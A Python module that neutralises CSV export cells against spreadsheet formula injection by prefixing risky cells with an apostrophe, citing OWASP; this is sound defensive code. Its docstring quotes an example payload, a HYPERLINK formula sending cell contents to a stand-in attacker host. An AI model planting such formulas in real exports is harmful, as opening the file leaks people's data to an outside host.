"""CSV cells that a spreadsheet will not run as formulas.

A member's contacts hold text other people wrote (a LinkedIn headline, an imported note): a
cell such as ``=HYPERLINK("http://evil.example/?"&A1)`` or ``@SUM(...)`` would be evaluated by
Excel or LibreOffice when the export is opened. Following OWASP's advice on CSV injection, a
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
apostrophe, which spreadsheets hide and which makes the cell plain text. The price is an
apostrophe before a phone number such as "+33 6 12 34 56 78" in any other reader.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: object) -> str:
    """The cell as text, prefixed with an apostrophe when a spreadsheet would run it."""
    text = "" if cell is None else str(cell)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(cells: Iterable[object]) -> list[str]:
    return [neutralise(cell) for cell in cells]


def write_rows(rows: Iterable[Iterable[object]]) -> str:
    """CSV text (RFC 4180: commas, double quotes, CRLF) with every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(safe_row(row))
    return out.getvalue()
